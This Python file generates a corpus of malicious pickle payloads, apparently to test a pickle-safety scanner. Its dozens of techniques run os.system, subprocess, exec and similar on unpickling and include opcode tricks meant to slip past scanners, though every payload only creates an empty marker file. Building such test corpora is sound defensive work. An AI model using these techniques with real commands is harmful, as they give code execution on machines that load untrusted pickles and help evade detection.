"""Payloads for the malicious half of the corpus: each creates an empty file `sallyport-marker` in the current folder, and does nothing else.

A payload is (technique, object to pickle) or (technique, raw bytes of a whole pickle). What each really does is proven by
prove.py, in a child process, never by the scanner.
"""
import pickle
import struct

MARK = 'sallyport-marker'
TOUCH = 'touch ' + MARK
CODE = f"open('{MARK}','w').close()"


class Call:
    """Pickles as `callable(*args)`."""

    def __init__(self, callable_, *args):
        self.parts = (callable_, args)

    def __reduce__(self):
        return self.parts

    def __call__(self):
        raise TypeError('only its pickle is called')


def by_callable():
    """Techniques that are one REDUCE with a name of the standard library or of an installed package."""
    import _osx_support
    import asyncio
    import bdb
    import builtins
    import cProfile
    import code
    import contextlib
    import ctypes
    import distutils.file_util
    import distutils.spawn
    import functools
    import importlib
    import io
    import logging
    import marshal
    import multiprocessing.util
    import operator
    import os
    import pathlib
    import pkgutil
    import posix
    import profile
    import pty
    import pydoc
    import runpy
    import shutil
    import subprocess
    import tempfile
    import timeit
    import trace
    import weakref
    import zipfile

    source = compile(CODE, 'm', 'exec')
    run = operator.call
    module = Call(importlib.import_module, 'os')
    function = Call(getattr, Call(importlib.import_module, 'types'), 'FunctionType')
    path = pathlib.PosixPath(MARK)
    yield 'os-system', Call(os.system, TOUCH)
    yield 'posix-system', Call(posix.system, TOUCH)
    yield 'os-popen', Call(os.popen, TOUCH)
    yield 'os-spawn', Call(os.spawnlp, os.P_WAIT, 'touch', 'touch', MARK)
    yield 'os-open', Call(os.open, MARK, os.O_CREAT | os.O_WRONLY)
    yield 'os-mkdir', Call(os.mkdir, MARK)
    yield 'subprocess-popen', Call(subprocess.Popen, ['touch', MARK])
    yield 'subprocess-call', Call(subprocess.call, ['touch', MARK])
    yield 'subprocess-getoutput', Call(subprocess.getoutput, TOUCH)
    yield 'builtins-exec', Call(exec, CODE)
    yield 'builtins-eval', Call(eval, CODE)
    yield 'builtins-open', Call(open, MARK, 'w')
    yield 'io-open', Call(io.open, MARK, 'w')
    yield 'io-fileio', Call(io.FileIO, MARK, 'w')
    yield 'pathlib-touch', Call(pathlib.Path.touch, path)
    yield 'pathlib-write', Call(pathlib.Path.write_text, path, 'x')
    yield 'logging-filehandler', Call(logging.FileHandler, MARK)
    yield 'runpy-path', Call(runpy.run_path, 'payload.py')
    yield 'timeit', Call(timeit.timeit, CODE, 'pass', timeit.default_timer, 1)
    yield 'cprofile-run', Call(cProfile.run, CODE)
    yield 'profile-run', Call(profile.run, CODE)
    yield 'profile-runctx', Call(profile.runctx, CODE, {'__builtins__': {'open': open}}, {})
    yield 'trace-run', Call(trace.Trace.run, Call(trace.Trace), CODE)
    yield 'bdb-run', Call(bdb.Bdb.run, Call(bdb.Bdb), CODE)
    yield 'bdb-runeval', Call(bdb.Bdb.runeval, Call(bdb.Bdb), CODE)
    yield 'code-interpreter', Call(
        code.InteractiveInterpreter.runcode, Call(code.InteractiveInterpreter), Call(compile, CODE, 'm', 'exec')
    )
    yield 'code-runsource', Call(code.InteractiveInterpreter.runsource, Call(code.InteractiveInterpreter), CODE)
    yield 'pty-spawn', Call(pty.spawn, ['touch', MARK])
    yield 'distutils-write', Call(distutils.file_util.write_file, MARK, ['x'])
    yield 'distutils-spawn', Call(distutils.spawn.spawn, ['touch', MARK])
    yield 'shutil-copy', Call(shutil.copy, '/etc/hostname', MARK)
    yield 'tempfile-file', Call(tempfile.NamedTemporaryFile, 'w', -1, None, None, '', MARK, '.', False)
    yield 'multiprocessing-spawnv', Call(
        multiprocessing.util.spawnv_passfds, b'/usr/bin/touch', [b'touch', MARK.encode()], []
    )
    yield 'osx-support', Call(_osx_support._read_output, TOUCH)
    yield 'zipfile-write', Call(zipfile.ZipFile, MARK, 'w')
    yield 'ctypes-cdll', Call(run, Call(getattr, Call(ctypes.CDLL, None), 'system'), TOUCH.encode())
    yield 'importlib-getattr', Call(run, Call(getattr, module, 'system'), TOUCH)
    yield 'dunder-import', Call(run, Call(getattr, Call(builtins.__import__, 'os'), 'system'), TOUCH)
    yield 'pkgutil-resolve', Call(run, Call(pkgutil.resolve_name, 'os:system'), TOUCH)
    yield 'pydoc-locate', Call(run, Call(pydoc.locate, 'os.system'), TOUCH)
    yield 'methodcaller', Call(run, Call(operator.methodcaller, 'system', TOUCH), module)
    yield 'attrgetter', Call(run, Call(run, Call(operator.attrgetter, 'system'), module), TOUCH)
    yield 'partial', Call(run, Call(functools.partial, os.system, TOUCH))
    yield 'map-list', Call(list, Call(map, os.system, [TOUCH]))
    yield 'map-eval', Call(list, Call(map, eval, [f"__import__('os').system('{TOUCH}')"]))
    yield 'filter-tuple', Call(tuple, Call(filter, os.system, [TOUCH]))
    yield 'marshal-function', Call(
        run,
        Call(function, Call(marshal.loads, marshal.dumps(source)), {'__builtins__': {'open': open}}),
    )
    yield 'nested-loads', Call(pickle.loads, pickle.dumps(Call(os.system, TOUCH)))
    yield 'asyncio-shell', Call(asyncio.run, Call(asyncio.create_subprocess_shell, TOUCH))
    stack = Call(contextlib.ExitStack)
    yield 'exitstack-callback', [
        Call(run, Call(getattr, stack, 'callback'), os.system, TOUCH),
        Call(run, Call(getattr, stack, 'close')),
    ]
    dunder = Call(type, 'X', (object,), {'__lt__': os.system})
    yield 'type-dunder', Call(operator.lt, Call(dunder), TOUCH)
    yield 'weakref-finalize', Call(weakref.finalize, Call(type, 'X', (), {}), os.system, TOUCH)
    yield 'sys-modules', Call(
        run, Call(getattr, Call(dict.get, Call(getattr, Call(importlib.import_module, 'sys'), 'modules'), 'os'), 'system'), TOUCH
    )


# Packages.


def by_package():
    """Techniques that go through numpy, torch, pandas, joblib, dill or cloudpickle."""
    import os

    import cloudpickle
    import dill
    import joblib
    import numpy
    import pandas
    import torch
    import torch.utils.collect_env

    inner = pickle.dumps(Call(os.system, TOUCH))
    yield 'torch-collect-env', Call(torch.utils.collect_env.run, TOUCH)
    yield 'dill-loads', Call(dill.loads, inner)
    yield 'cloudpickle-loads', Call(cloudpickle.loads, inner)
    yield 'cloudpickle-function', cloudpickled()
    yield 'dill-function', dilled()
    yield 'pandas-get-handle', Call(pandas.io.common.get_handle, MARK, 'w')
    yield 'numpy-savetxt', Call(numpy.savetxt, MARK, [1.0])
    yield 'numpy-save', Call(numpy.save, './' + MARK, [1.0])
    yield 'joblib-dump', Call(joblib.dump, 1, MARK)
    yield 'torch-save', Call(torch.save, 1, MARK)
    yield 'torch-load-bytes', Call(torch.storage._load_from_bytes, legacy_of(Call(os.system, TOUCH)))


def legacy_of(obj):
    import io

    import torch

    out = io.BytesIO()
    torch.save(obj, out, _use_new_zipfile_serialization=False)
    return out.getvalue()


def cloudpickled():
    """A function written by value, and called."""
    import cloudpickle

    def act():
        open('sallyport-marker', 'w').close()

    return RawValue(cloudpickle.dumps(act))


def dilled():
    import dill

    return RawValue(dill.dumps(eval(f"lambda: open('{MARK}', 'w').close()"), recurse=True))


class RawValue:
    """A pickle of a function, followed by a call of it."""

    def __init__(self, dumped):
        # Opcodes: value STOP -> value EMPTY_TUPLE REDUCE STOP.
        self.raw = dumped[:-1] + b')R.'


# Raw opcodes.


def short(text):
    data = text.encode()
    return b'\x8c' + bytes([len(data)]) + data


def text(value):
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


CALL0 = b'cos\nsystem\n(S\'' + TOUCH.encode() + b"'\ntR."


def by_opcodes():
    """Techniques that are a matter of how the stream is written."""
    t = TOUCH.encode()
    yield 'proto0-reduce', CALL0
    yield 'inst', b"(S'" + t + b"'\nios\nsystem\n."
    yield 'obj', b"(cos\nsystem\nS'" + t + b"'\no."
    yield 'obj-popped', b"(cos\nsystem\nS'" + t + b"'\no0N."
    yield 'newobj-class', b"\x80\x02csubprocess\nPopen\n](X\x05\x00\x00\x00touchX" + struct.pack('<I', len(MARK)) + MARK.encode() + b"e\x85R."
    yield 'stack-global', b'\x80\x04' + short('os') + short('system') + b'\x93' + short(TOUCH) + b'\x85R.'
    yield 'stack-global-memo', b'\x80\x04' + short('os') + b'\x94' + short('system') + b'\x940' + b'0h\x00h\x01\x93' + short(TOUCH) + b'\x85R.'
    yield 'stack-global-far-memo', b'\x80\x04' + short('os') + b'r\xff\xff\x00\x00' + short('system') + b'q\x0500j\xff\xff\x00\x00h\x05\x93' + short(TOUCH) + b'\x85R.'
    yield 'stack-global-dup', b'\x80\x04' + short('system') + b'\x940' + short('os') + b'h\x00\x93' + short(TOUCH) + b'\x85R.'
    yield 'int-base0', b'I0x10\n0' + CALL0
    yield 'long-underscore', b'L1_000L\n0' + CALL0
    yield 'dotted-name', b'\x80\x04' + short('logging') + short('os.system') + b'\x93' + short(TOUCH) + b'\x85R.'
    yield 'alias-module', b'\x80\x04' + short('random') + short('_os.system') + b'\x93' + short(TOUCH) + b'\x85R.'
    yield 'python2-name', b"c__builtin__\neval\n(S'open(\"" + MARK.encode() + b"\",\"w\").close()'\ntR."
    yield 'broken-after', CALL0[:-1] + b'\xff\xff\xff'
    yield 'truncated-after', CALL0[:-1]
    yield 'unknown-opcode-after', CALL0[:-1] + b'\x00garbage'
    yield 'second-stream', pickle.dumps([1, 2]) + CALL0
    yield 'join-name', (
        b'\x80\x04' + short('builtins') + short('getattr') + b'\x93' + short('') + short('join') + b'\x86R'
        + b'](' + short('sys') + short('tem') + b'e\x85R\x940'
        + short('os') + b'h\x00\x93' + short(TOUCH) + b'\x85R.'
    )
    yield 'codec-name', b'\x80\x04' + short('os') + b'c_codecs\ndecode\nC\x06system\x85R\x93' + short(TOUCH) + b'\x85R.'
    yield 'build-on-module', (
        b'\x80\x04' + short('builtins') + short('__import__') + b'\x93' + short('collections') + b'\x85R'
        + b'}' + short('evil') + b'cos\nsystem\nsb0'
        + short('collections') + short('evil') + b'\x93' + short(TOUCH) + b'\x85R.'
    )
    yield 'padding-then-payload', b'\x80\x04' + (short('a' * 250) + b'0') * 20000 + CALL0[:-1] + b'.'
    yield 'frame-crossing', b'\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00' + CALL0
    yield 'persid-payload', b"Ppid\n0" + CALL0
    yield 'bytes8-nested', b'\x80\x04cpickle\nloads\n\x8e' + struct.pack('<Q', len(CALL0)) + CALL0 + b'\x85R.'
    yield 'bytearray8-nested', b'\x80\x05cpickle\nloads\n\x96' + struct.pack('<Q', len(CALL0)) + CALL0 + b'\x85R.'
    yield 'newobj-ex', b'\x80\x04csubprocess\nPopen\n)}' + short('args') + b'](' + short('touch') + short(MARK) + b'es\x92' + b'0' + CALL0
    yield 'setitem-builtins', (
        b'cbuiltins\nglobals\n)R' + text('x') + b'cos\nsystem\ns0' + CALL0
    )
    yield 'getattr-builtins', (
        b'cbuiltins\ngetattr\n(cos\n__dict__\n' + text('get') + b'tR(' + text('system') + b'tR(' + text(TOUCH) + b'tR.'
    )
    yield 'quoted-escape', b"cos\nsystem\n(S'" + b''.join(b'\\x%02x' % c for c in t) + b"'\ntR."
    yield 'unicode-escape', b'cos\nsystem\n(V' + b''.join(b'\\u%04x' % c for c in t) + b'\ntR.'


def all_payloads():
    """(technique, bytes of a whole pickle)."""
    for technique, obj in [*by_callable(), *by_package()]:
        yield technique, obj.raw if isinstance(obj, RawValue) else pickle.dumps(obj, protocol=protocol_of(technique))
    yield from by_opcodes()


def protocol_of(technique):
    """Different protocols for different techniques, always the same for one."""
    return [2, 3, 4, 5, 4, 2][sum(technique.encode()) % 6]
